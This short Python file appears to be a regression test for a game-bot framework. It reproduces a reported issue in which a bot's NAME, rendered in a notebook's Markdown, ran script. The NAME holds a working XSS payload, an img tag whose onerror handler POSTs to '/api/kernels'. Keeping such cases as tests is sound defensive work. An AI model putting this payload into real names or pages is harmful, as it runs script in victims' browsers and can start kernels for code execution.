"""Attack (issue 42, 1): a NAME that is HTML: in a notebook's Markdown it ran a script."""
NAME = '<img src=x onerror="fetch(\'/api/kernels\', {method: \'POST\'})">'


def choose(state):
    return state.legal_actions()[0]
